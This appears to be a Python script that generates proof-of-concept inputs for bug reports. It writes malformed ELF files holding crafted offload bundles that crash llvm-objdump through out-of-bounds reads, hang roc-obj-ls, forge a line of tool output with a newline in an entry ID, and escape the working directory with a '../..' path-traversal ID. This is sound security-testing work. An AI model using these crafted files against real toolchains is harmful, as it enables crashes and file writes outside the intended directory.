#!/usr/bin/env python3
"""Write the reproducer files of findings/README.md (small, deterministic).

usage: python3 make.py [OUTDIR]   (default: the directory of this script)
Needs offload-kit (OFFLOAD_KIT or ../../../target/release/offload-kit) only
for the CCOB compression of the compressed reproducers.
"""
import os, random, struct, subprocess, sys, tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else HERE
OK = os.environ.get("OFFLOAD_KIT",
                    os.path.join(HERE, "..", "..", "..", "target", "release", "offload-kit"))
MAGIC = b"__CLANG_OFFLOAD_BUNDLE__"


def bundle(entries, align=8, offsets=None):
    """Binary bundle; entries = [(id, payload)]; offsets overrides the table."""
    hdr = len(MAGIC) + 8 + sum(24 + len(i) for i, _ in entries)
    pos, table, body = hdr, [], b""
    for i, p in entries:
        pad = (-pos) % align
        body += b"\0" * pad
        pos += pad
        table.append((pos, len(p)))
        body += p
        pos += len(p)
    if offsets:
        table = [(o if o is not None else t[0], s if s is not None else t[1])
                 for (o, s), t in zip(offsets, table)]
    out = MAGIC + struct.pack("<Q", len(entries))
    for (i, _), (o, s) in zip(entries, table):
        out += struct.pack("<QQQ", o, s, len(i)) + i.encode()
    return out + body


def ccob(raw):
    with tempfile.TemporaryDirectory() as d:
        src, dst = os.path.join(d, "b"), os.path.join(d, "c")
        open(src, "wb").write(raw)
        r = subprocess.run([OK, "compress", src, "-o", dst], capture_output=True)
        if r.returncode != 0:
            sys.exit("offload-kit compress failed: " + r.stderr.decode())
        return open(dst, "rb").read()


def elf(section_data, name=b".hip_fatbin"):
    """Minimal ELF64 x86-64 relocatable with one SHF_ALLOC PROGBITS section at 0x1000."""
    shstr = b"\0" + name + b"\0.shstrtab\0"
    off = 0x1000
    shstr_off = off + len(section_data)
    sh_off = (shstr_off + len(shstr) + 7) & ~7
    eh = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    eh += struct.pack("<HHIQQQIHHHHHH", 1, 62, 1, 0, 0, sh_off, 0, 64, 0, 0, 64, 3, 2)
    f = bytearray(eh + b"\0" * (off - len(eh)))
    f += section_data + shstr
    f += b"\0" * (sh_off - len(f))
    f += b"\0" * 64
    f += struct.pack("<IIQQQQIIQQ", 1, 1, 2, 0, off, len(section_data), 0, 0, 4096, 0)
    f += struct.pack("<IIQQQQIIQQ", 1 + len(name) + 1, 3, 0, 0, shstr_off, len(shstr), 0, 0, 1, 0)
    return bytes(f)


def code(n, seed):
    r = random.Random(seed)
    return bytes(r.getrandbits(8) for _ in range(n))


def write(rel, data):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "wb").write(data)
    print("wrote", rel, len(data), "bytes")


HOST = "host-x86_64-unknown-linux-gnu-"
DEV = "hipv4-amdgcn-amd-amdhsa--gfx906"

# 1. llvm-objdump: entry of a valid compressed bundle copied from the *file* at its
#    decompressed offset -> reads 32 MiB past the end of the mapping (SIGSEGV).
big = bundle([(HOST, b""), (DEV, b"\x7fELF" + code(60, 1))], align=32 << 20)
write("llvm-objdump/ccob-oob-read.o", elf(ccob(big)))

# 2. llvm-objdump/readobj: a valid compressed bundle whose compressed bytes contain
#    "CCOB" is cut there and rejected (decompression of the truncated blob fails).
p = code(4000, 2)
p = p[:2000] + b"CCOB" + p[2000:]
write("llvm-objdump/ccob-magic-in-payload.o",
      elf(ccob(bundle([(HOST, b""), (DEV, p)], align=4096))))

# 3. llvm-objdump/readobj: a payload containing the bundle magic starts a phantom bundle.
inner = bundle([("hipv4-amdgcn-amd-amdhsa--gfx1100", b"PHANTOM!")])
write("llvm-objdump/bundle-magic-in-payload.o",
      elf(bundle([(HOST, b""), (DEV, b"\x7fELF" + code(28, 3) + inner)], align=4096)))

# 4. Plain (uncompressed) bundle whose entry offset is 2^40 (rule BIN-7):
#    objdump copies from file+2^40 (SIGSEGV); readobj and roc-obj-ls print the URI.
write("llvm-objdump/plain-offset-oob.o",
      elf(bundle([(HOST, b""), (DEV, code(64, 4))], offsets=[(None, None), (1 << 40, None)])))

# 5. Entry ID with a newline: printed raw by all three listers, so the ID forges
#    an extra output line (objdump also uses it verbatim as a file name).
write("llvm-objdump/id-newline.o",
      elf(bundle([(HOST, b""), ("hip-amdgcn-amd-amdhsa--gfx906\nExtracting offload bundle: FORGED", code(16, 5))])))

# 6. Entry ID with "/" and "..": objdump's output path is <input>.<n>.<ID>; it escapes
#    the working directory as soon as the first path component exists as a directory.
write("llvm-objdump/id-path-traversal.o",
      elf(bundle([(HOST, b""), ("hip-amdgcn-amd-amdhsa--gfx906/../../ESCAPED", code(16, 6))])))

# 7. roc-obj-ls: a bundle with 0 entries at a 4096-aligned offset is re-read forever.
write("roc-obj-ls/zero-entries-hang.o", elf(MAGIC + struct.pack("<Q", 0) + b"\0" * 32))

# 8. roc-obj-ls, llvm: ID length 2^62 -> perl read() of that length.
#    LLVM reads the length as uint32 (2^62 -> 0): entry with an empty ID.
write("roc-obj-ls/huge-id-length.o",
      elf(MAGIC + struct.pack("<QQQQ", 1, 0x1000, 16, 1 << 62) + b"hip" + b"\0" * 64))
